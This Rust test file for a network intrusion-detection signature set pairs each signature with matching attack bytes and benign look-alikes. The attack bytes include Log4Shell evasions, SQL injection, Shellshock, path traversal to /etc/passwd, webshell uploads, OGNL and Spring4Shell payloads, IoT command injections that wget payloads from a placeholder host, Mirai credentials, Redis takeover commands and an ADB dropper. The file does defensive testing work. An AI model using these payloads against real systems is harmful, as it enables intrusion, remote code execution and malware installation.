//! For each signature, bytes as they are on the wire, and others that are nearly the same.

use std::collections::BTreeSet;

use netwatch_common::Proto::{self, Tcp, Udp};

use super::{answer, found, sample, starter};

/// Something that is sent to a port, by which a signature is found or not.
struct Case {
    id: &'static str,
    proto: Proto,
    port: u16,
    is_answer: bool,
    hits: Vec<Vec<u8>>,
    misses: Vec<Vec<u8>>,
}

fn case(id: &'static str, proto: Proto, port: u16, hits: &[&[u8]], misses: &[&[u8]]) -> Case {
    let owned = |all: &[&[u8]]| all.iter().map(|bytes| bytes.to_vec()).collect();
    Case { id, proto, port, is_answer: false, hits: owned(hits), misses: owned(misses) }
}

/// A request for an address.
fn get(target: &str) -> Vec<u8> {
    format!("GET {target} HTTP/1.1\r\nHost: 192.0.2.80\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n")
        .into_bytes()
}

fn header(line: &str) -> Vec<u8> {
    format!("GET / HTTP/1.1\r\nHost: 192.0.2.80\r\n{line}\r\nAccept: */*\r\n\r\n").into_bytes()
}

fn post(target: &str, kind: &str, body: &str) -> Vec<u8> {
    let len = body.len();
    format!(
        "POST {target} HTTP/1.1\r\nHost: 192.0.2.80\r\nContent-Type: {kind}\r\nContent-Length: {len}\r\n\r\n{body}"
    )
    .into_bytes()
}

fn web(id: &'static str, hits: &[Vec<u8>], misses: &[Vec<u8>]) -> Case {
    Case { id, proto: Tcp, port: 80, is_answer: false, hits: hits.to_vec(), misses: misses.to_vec() }
}

/// An SMB1 message: its command, status, multiplex number, and what follows the header.
fn smb(command: u8, status: u32, multiplex: u16, body: &[u8]) -> Vec<u8> {
    let mut message = b"\xffSMB".to_vec();
    message.push(command);
    message.extend(status.to_le_bytes());
    // Flags, flags 2, process (high), signature, reserved, tree, process, user.
    message.extend([0x18, 0x07, 0xc0, 0, 0]);
    message.extend([0; 8]);
    message.extend([0, 0, 0, 8, 0xfe, 0xff, 0, 8]);
    message.extend(multiplex.to_le_bytes());
    message.extend(body);
    let len = u32::try_from(message.len()).unwrap();
    [&len.to_be_bytes()[..], &message].concat()
}

/// Parameters of SMB_COM_TRANSACTION or SMB_COM_TRANSACTION2, from the number of words on.
fn transaction(words: u8, setup: &[u16], data: &[u8]) -> Vec<u8> {
    let mut body = vec![words];
    // Total parameters and data, most of both, most setup words, reserved, flags, timeout, reserved, parameters, data.
    body.extend([
        0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x4a, 0, 0, 0, 0x4a, 0,
    ]);
    body.extend([u8::try_from(setup.len()).unwrap(), 0]);
    body.extend(setup.iter().flat_map(|word| word.to_le_bytes()));
    body.extend(u16::try_from(data.len()).unwrap().to_le_bytes());
    body.extend(data);
    body
}

fn web_cases() -> Vec<Case> {
    let form = "application/x-www-form-urlencoded";
    let multipart = "multipart/form-data; boundary=x";
    let upload = |code: &str| {
        post(
            "/upload.php",
            multipart,
            &format!(
                "--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n{code}\r\n--x--"
            ),
        )
    };
    vec![
        web(
            "web.log4shell",
            &[
                header("User-Agent: ${jndi:ldap://203.0.113.5:1389/a}"),
                header("X-Api-Version: ${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://203.0.113.5/a}"),
                header("Referer: ${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.5/a}"),
                header(
                    "Cookie: s=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.5/a}",
                ),
                header("User-Agent: ${j${k8s:k5:-ND}i${sd:k5:-:}ldap://203.0.113.5/a}"),
                header("User-Agent: ${${date:'j'}${date:'n'}di:ldap://203.0.113.5/a}"),
                get("/?x=$%7Bjndi:ldap://203.0.113.5/a%7D"),
                get("/?x=%24%7B%24%7Blower:j%7Dndi%3Aldap%3A%2F%2F203.0.113.5%2Fa%7D"),
            ],
            &[
                header("User-Agent: ${jdni:ldap://203.0.113.5:1389/a}"),
                header("X-Template: ${join(items, ':')} and jndi:ldap"),
                get("/docs/jndi:lookup?price=$%7Bamount%7D"),
            ],
        ),
        web(
            "web.sqli-union",
            &[
                get("/item.php?id=-1+union+select+1,2,3--+-"),
                get("/item.php?id=1%27%20UNION%20ALL%20SELECT%20NULL,NULL,CONCAT(0x71,user())--%20-"),
                get("/item.php?id=1/**/UnIoN/**/SeLeCt/**/password/**/FROM/**/users"),
                get("/?q=%27)+union+select+@@version,2%23"),
                post("/login", form, "user=x'+union+select+user,pass+from+users--&pass=y"),
            ],
            &[
                get("/search?q=credit+union+select+account"),
                get("/search?q=student+union+select+committee+from+2024"),
                get("/search?q=2024+union+selection+process"),
                get("/search?q=%22western+union%22+select+locations"),
            ],
        ),
        web(
            "web.sqli-tautology",
            &[
                get("/item.php?id=1+or+1=1"),
                get("/item.php?id=1%27%20OR%20%271%27=%271"),
                get("/item.php?id=1'+or+'a'='a'--"),
                get("/item.php?id=1%20AND%208912%3D8913"),
                get("/?id=%27+or+%271%27%3D%271"),
                post("/login", form, "user=admin%27+or+1%3D1--&pass=x"),
            ],
            &[
                get("/search?q=more+or+less&p=1"),
                get("/rest/api/2/search?jql=project%3D%22ABC%22+OR+project%3DDEF"),
                get("/odata/Items?$filter=Name%20eq%20'a'%20or%20Name%20eq%20'b'"),
                get("/list?a=1&or=1&b=2"),
                get("/search?q='rock+and+roll'&year=1950"),
                get("/search?q=%22war+and+peace%22+or+%221984%22&sort=asc"),
                get("/shop?cat=shoes+and+size=42"),
                get("/report?filter=total%3E100+and+7%3D7days"),
            ],
        ),
        web(
            "web.sqli-time",
            &[
                get("/?id=1%20AND%20SLEEP(5)"),
                get("/?id=(select(0)from(select(sleep(15)))v)"),
                get("/?id=1;SELECT%20pg_sleep(10)--"),
                get("/?id=1;waitfor%20delay%20'0:0:15'--"),
                get("/?id=1'+AND+BENCHMARK(5000000,MD5(1))%23"),
            ],
            &[
                get("/search?q=sleep+(song)"),
                get("/search?q=benchmark(cpu)"),
                get("/?q=wait+for+delay"),
                get("/blog/sleep(8)-hours?x=1"),
            ],
        ),
        web(
            "web.shellshock",
            &[
                header("User-Agent: () { :;}; /bin/bash -c 'id'"),
                header("Referer: () { ignored; }; echo; /usr/bin/id"),
                header("Cookie: () { _; } >_[$($())] { echo hi; id; }"),
            ],
            &[header("X-Callback: function() { return; }"), post("/paste", "text/plain", "x = () { :;}; y")],
        ),
        web(
            "web.path-traversal",
            &[
                get("/download?file=../../../../etc/passwd"),
                get("/..%2f..%2f..%2fwindows/win.ini"),
                get("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"),
                get("/icons/%%32%65%%32%65/%%32%65%%32%65/etc/passwd"),
                get("/static/....//....//....//etc/shadow"),
                get("/?f=..%252f..%252f..%252fetc%252fpasswd"),
                get("/%2e%2e/%2e%2e/secret"),
            ],
            &[
                get("/assets/../css/main.css"),
                get("/view?image=../../img/logo.png"),
                get("/docs/etc/passwd-format.html"),
                get("/a...b/...c/etc"),
                header("Referer: http://192.0.2.80/../../etc/passwd"),
            ],
        ),
        web(
            "web.secret-probe",
            &[
                get("/.env"),
                get("/app/.env"),
                get("/.git/config"),
                get("/.aws/credentials"),
                get("/wp-config.php.bak"),
            ],
            &[
                get("/project.git/HEAD"),
                get("/.environment"),
                get("/docs/env"),
                get("/.git"),
                get("/a?file=/.env.js"),
            ],
        ),
        web(
            "web.webshell-upload",
            &[
                upload("<?php system($_GET['c']); ?>"),
                upload("GIF89a<?php @eval($_POST[\"x\"]);?>"),
                upload("<?php eval(base64_decode($_REQUEST['z'])); ?>"),
                upload("<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
                upload("<%eval request(\"x\")%>"),
                [
                    b"PUT /s.php HTTP/1.1\r\nHost: 192.0.2.80\r\nContent-Length: 38\r\n\r\n".to_vec(),
                    b"<?php passthru($_COOKIE['c']); die; ?>".to_vec(),
                ]
                .concat(),
            ],
            &[
                upload("<?php echo htmlspecialchars($_GET['c']); ?>"),
                upload("<?php phpinfo(); ?>"),
                get("/?x=system($_GET[c])"),
                post("/comments", form, "text=Never+call+system($_GET['c'])"),
            ],
        ),
        web(
            "web.spring4shell",
            &[
                post(
                    "/greeting",
                    form,
                    "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
                ),
                get("/?class%2Emodule%2EclassLoader%2EDefaultAssertionStatus=x"),
            ],
            &[post("/greeting", form, "class.name=a&module=classLoader"), get("/docs/class.module.html")],
        ),
        web(
            "web.confluence-ognl",
            &[
                get(
                    "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29%29%29%7D/",
                ),
                get("/${Class.forName(\"javax.script.ScriptEngineManager\")}/"),
            ],
            &[get("/%24%7Bbase_url%7D/static/main.css"), get("/api/@java/runtime"), get("/${jndi}/x")],
        ),
        web(
            "web.struts-ognl",
            &[header(
                "Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}",
            )],
            &[header("Content-Type: multipart/form-data; boundary=%{x}"), header("Content-Type: text/html")],
        ),
        web(
            "web.phpunit-eval",
            &[post("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "text/plain", "<?php echo 1;")],
            &[get("/vendor/phpunit/phpunit/README.md"), get("/eval-stdin.php")],
        ),
        web(
            "web.thinkphp-invoke",
            &[get(
                "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1",
            )],
            &[get("/index.php?s=/index/index"), get("/docs?q=invokefunction+call_user_func")],
        ),
        web(
            "web.php-cgi-arguments",
            &[
                post(
                    "/test.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
                    "text/plain",
                    "<?php phpinfo();",
                ),
                get("/index.php?-d+allow_url_include%3Don"),
            ],
            &[get("/index.php?-s"), get("/manual?q=allow_url_include"), get("/x?a-d+auto")],
        ),
        web(
            "web.scanner-agent",
            &[
                header("User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)"),
                header("User-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"),
                header("User-Agent: Mozilla/5.0 zgrab/0.x"),
                header(
                    "user-agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
                ),
            ],
            &[
                header("User-Agent: Mozilla/5.0 (X11; Linux x86_64)"),
                header("X-Note: sqlmap/1.7"),
                get("/nikto"),
            ],
        ),
    ]
}

fn device_cases() -> Vec<Case> {
    let soap = |path: &str, body: &str| {
        post(
            path,
            "text/xml",
            &format!("<?xml version=\"1.0\"?><s:Envelope><s:Body>{body}</s:Body></s:Envelope>"),
        )
    };
    vec![
        web(
            "iot.gpon-diag",
            &[post("/GponForm/diag_Form?images/", "text/plain", "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`wget+http://203.0.113.5/g`&ipv=0")],
            &[post("/GponForm/diag_Form", "text/plain", "XWebPageName=diag&diag_action=ping&dest_host=192.0.2.1&ipv=0")],
        ),
        web(
            "iot.netgear-setup",
            &[get("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.5/m&curpath=/")],
            &[get("/setup.cgi?next_file=netgear.cfg&todo=save")],
        ),
        web(
            "iot.hnap-soapaction",
            &[header("SOAPAction: http://purenetworks.com/HNAP1/`cd /tmp && wget http://203.0.113.5/m`")],
            &[header("SOAPAction: \"http://purenetworks.com/HNAP1/GetDeviceSettings\"")],
        ),
        web(
            "iot.upnp-portmapping",
            &[soap("/picsdesc.xml", "<u:AddPortMapping><NewInternalClient>`cd /var;wget http://203.0.113.5/r`</NewInternalClient></u:AddPortMapping>")],
            &[soap("/ctl/IPConn", "<u:AddPortMapping><NewInternalClient>192.0.2.9</NewInternalClient></u:AddPortMapping>")],
        ),
        web(
            "iot.huawei-upgrade",
            &[soap("/ctrlt/DeviceUpgrade_1", "<u:Upgrade><NewStatusURL>$(/bin/busybox wget -g 203.0.113.5 -l /tmp/h)</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade>")],
            &[soap("/ctrlt/DeviceUpgrade_1", "<u:Upgrade><NewStatusURL>http://192.0.2.9/s</NewStatusURL></u:Upgrade>")],
        ),
        web(
            "iot.tr064-ntp",
            &[soap("/UD/act?1", "<u:SetNTPServers><NewNTPServer1>`cd /tmp;tftp -l 3 -r 1 -g 203.0.113.5`</NewNTPServer1></u:SetNTPServers>")],
            &[soap("/UD/act?1", "<u:SetNTPServers><NewNTPServer1>pool.ntp.org</NewNTPServer1></u:SetNTPServers>")],
        ),
        web(
            "iot.jaws-shell",
            &[get("/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.5/j;sh+/tmp/j")],
            &[get("/shell?lang=en"), get("/docs/shell?wget")],
        ),
        case(
            "telnet.mirai-busybox",
            Tcp,
            23,
            &[
                b"enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI\r\n",
                b"\xff\xfb\x1f\xff\xfb\x20sh\r\n/bin/busybox ECCHI\r\n",
            ],
            &[b"/bin/busybox ls\r\n", b"cat /bin/busybox | head\r\n"],
        ),
        case(
            "telnet.mirai-credentials",
            Tcp,
            2323,
            &[b"\xff\xfd\x03root\r\nxc3511\r\n", b"admin\r\n7ujMko0admin\r\n", b"root\r\0vizxv\r\0"],
            &[b"root\r\nhunter2\r\n", b"alice\r\nxc3511\r\n", b"ls\r\ncat xc3511.txt\r\n"],
        ),
        case(
            "adb.shell-dropper",
            Tcp,
            5555,
            &[b"CNXN\0\0\0\x01\0\x10\0\0\x07\0\0\0\x32\x02\0\0\xbc\xb1\xa7\xb1host::\0OPEN\x01\0\0\0\0\0\0\0\x2a\0\0\0\0\0\0\0\xb0\xaf\xba\xb1shell:cd /data/local/tmp; wget http://203.0.113.5/a\0"],
            &[b"OPEN\x01\0\0\0\0\0\0\0\x2a\0\0\0\0\0\0\0\xb0\xaf\xba\xb1shell:getprop ro.product.model\0"],
        ),
    ]
}

fn service_cases() -> Vec<Case> {
    let version_of = |name: &[u8]| [b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0", name, b"\0\0\x10\0\x03"].concat();
    let smb_case = |id, is_answer, hits: &[Vec<u8>], misses: &[Vec<u8>]| Case {
        id,
        proto: Tcp,
        port: 445,
        is_answer,
        hits: hits.to_vec(),
        misses: misses.to_vec(),
    };
    let not_implemented = 0xc000_0002;
    let pipe = b"\\PIPE\\\0";
    vec![
        smb_case(
            "smb.ms17-010-probe",
            false,
            &[smb(0x25, 0, 0x40, &transaction(16, &[0x23, 0], pipe))],
            // Into a pipe that was opened; and a call of a remote procedure.
            &[
                smb(0x25, 0, 0x40, &transaction(16, &[0x23, 0x4001], pipe)),
                smb(0x25, 0, 0x40, &transaction(16, &[0x26, 0x4001], pipe)),
            ],
        ),
        smb_case(
            "smb.trans2-session-setup",
            false,
            &[
                smb(0x32, 0, 0x41, &transaction(15, &[0x0e], &[0; 13])),
                // Behind what comes before it in a connection.
                [
                    smb(0x72, 0, 0, b"\0\x0c\0\x02NT LM 0.12\0"),
                    smb(0x73, 0, 0, &[0; 60]),
                    smb(0x32, 0, 0x41, &transaction(15, &[0x0e], &[0; 13])),
                ]
                .concat(),
            ],
            // FIND_FIRST2 and QUERY_PATH_INFORMATION.
            &[
                smb(0x32, 0, 0x41, &transaction(15, &[0x01], &[0; 13])),
                smb(0x32, 0, 0x41, &transaction(15, &[0x05], &[0; 13])),
            ],
        ),
        smb_case(
            "smb.doublepulsar-reply",
            true,
            &[smb(0x32, not_implemented, 0x51, &[0, 0, 0])],
            &[smb(0x32, not_implemented, 0x41, &[0, 0, 0]), smb(0x32, 0, 0x51, &[0, 0, 0])],
        ),
        case(
            "redis.takeover",
            Tcp,
            6379,
            &[
                b"*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n",
                b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$10\r\ndbfilename\r\n$4\r\nroot\r\n",
                b"config set dir /root/.ssh\r\n",
                b"*3\r\n$6\r\nMODULE\r\n$4\r\nLOAD\r\n$11\r\n/tmp/exp.so\r\n",
            ],
            &[
                b"*3\r\n$6\r\nCONFIG\r\n$3\r\nGET\r\n$3\r\ndir\r\n",
                b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$9\r\nmaxmemory\r\n$3\r\n1gb\r\n",
                b"*3\r\n$3\r\nSET\r\n$6\r\nmodule\r\n$4\r\nload\r\n",
            ],
        ),
        case(
            "docker.root-mount",
            Tcp,
            2375,
            &[b"POST /v1.24/containers/create HTTP/1.1\r\nHost: 192.0.2.80:2375\r\nContent-Type: application/json\r\n\r\n{\"Image\":\"alpine\",\"HostConfig\":{\"Binds\":[\"/:/mnt\"]}}"],
            &[
                b"POST /v1.24/containers/create HTTP/1.1\r\nHost: 192.0.2.80:2375\r\n\r\n{\"Image\":\"alpine\",\"HostConfig\":{\"Binds\":[\"/srv/www:/mnt\"]}}",
                b"GET /v1.24/containers/json HTTP/1.1\r\nHost: 192.0.2.80:2375\r\n\r\n",
            ],
        ),
        case(
            "rdp.scanner-cookie",
            Tcp,
            3389,
            &[b"\x03\0\0\x2a\x25\xe0\0\0\0\0\0Cookie: mstshash=hello\r\n\x01\0\x08\0\x03\0\0\0"],
            &[b"\x03\0\0\x2a\x25\xe0\0\0\0\0\0Cookie: mstshash=alice\r\n\x01\0\x08\0\x03\0\0\0"],
        ),
        case(
            "sip.scanner",
            Udp,
            5060,
            &[b"OPTIONS sip:100@192.0.2.80 SIP/2.0\r\nVia: SIP/2.0/UDP 127.0.1.1:5066\r\nUser-Agent: friendly-scanner\r\n\r\n"],
            &[b"OPTIONS sip:100@192.0.2.80 SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.9:5066\r\nUser-Agent: Linphone/3.6.1\r\n\r\n"],
        ),
        case(
            "ntp.monlist",
            Udp,
            123,
            &[b"\x17\0\x03\x2a\0\0\0\0", b"\x17\0\x02\x2a\0\0\0\0\0\0\0\0"],
            &[b"\x23\0\x06\xec\0\0\0\0\0\0\0\0", b"\x16\x02\0\x01\0\0\0\0\0\0\0\0", b"\x17\0\x03\x2b\0\0\0\0"],
        ),
        Case {
            id: "dns.version-bind",
            proto: Udp,
            port: 53,
            is_answer: false,
            hits: vec![version_of(b"\x07version\x04bind"), version_of(b"\x07VERSION\x06server")],
            misses: vec![
                b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x07version\x04bind\0\0\x10\0\x01".to_vec(),
                version_of(b"\x02id\x06server"),
            ],
        },
        case(
            "miner.stratum",
            Tcp,
            3333,
            &[
                b"{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": [\"cgminer/4.10.0\"]}\n",
                b"{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"eth_submitLogin\",\"worker\":\"rig\",\"params\":[\"0x00\"]}\n",
            ],
            &[
                b"{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"eth_blockNumber\",\"params\":[]}\n",
                b"{\"id\":1,\"result\":[[[\"mining.notify\",\"1\"]],\"08\",4],\"error\":null}\n",
            ],
        ),
        case(
            "miner.monero-login",
            Tcp,
            14_444,
            &[b"{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD\",\"pass\":\"x\",\"agent\":\"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/9.3.0\",\"algo\":[\"cn/1\",\"rx/0\"]}}\n"],
            &[
                b"{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"alice@example.org\",\"password\":\"x\"}}\n",
                b"{\"jsonrpc\":\"2.0\",\"method\":\"user.login\",\"params\":{\"user\":\"Admin\",\"password\":\"zabbix\"},\"id\":1}",
            ],
        ),
    ]
}

fn cases() -> Vec<Case> {
    [web_cases(), device_cases(), service_cases()].into_iter().flatten().collect()
}

#[test]
fn each_signature_finds_its_attack_and_leaves_its_look_alike() {
    let starter = starter();
    let mut wrong = Vec::new();
    for case in cases() {
        let sample_of = |bytes| match case.is_answer {
            true => answer(case.proto, case.port, bytes),
            false => sample(case.proto, case.port, bytes),
        };
        for (bytes, is_expected) in
            case.hits.iter().map(|bytes| (bytes, true)).chain(case.misses.iter().map(|bytes| (bytes, false)))
        {
            let ids = found(&starter, &sample_of(bytes));
            let is_right = if is_expected { ids == [case.id] } else { ids.is_empty() };
            if !is_right {
                wrong.push(format!("{}: {ids:?} in {:?}", case.id, String::from_utf8_lossy(bytes)));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn each_signature_has_its_case() {
    let starter = starter();
    let tested: BTreeSet<_> = cases().iter().map(|case| case.id.to_owned()).collect();
    let written: BTreeSet<_> = starter.all().iter().map(|signature| signature.id.clone()).collect();
    assert_eq!(tested, written);
    assert!(cases().iter().all(|case| !case.hits.is_empty() && !case.misses.is_empty()));
}

#[test]
fn bytes_of_the_other_side_and_of_other_ports_are_left_alone() {
    let starter = starter();
    for case in cases() {
        let Some(signature) = starter.number(case.id).and_then(|number| starter.get(number)) else {
            continue;
        };
        for bytes in &case.hits {
            let other_side = match case.is_answer {
                true => sample(case.proto, case.port, bytes),
                false => answer(case.proto, case.port, bytes),
            };
            assert_eq!(found(&starter, &other_side), [""; 0], "{}", case.id);
            if !signature.scope.ports.is_any() {
                assert_eq!(found(&starter, &sample(case.proto, 1, bytes)), [""; 0], "{}", case.id);
            }
        }
    }
}
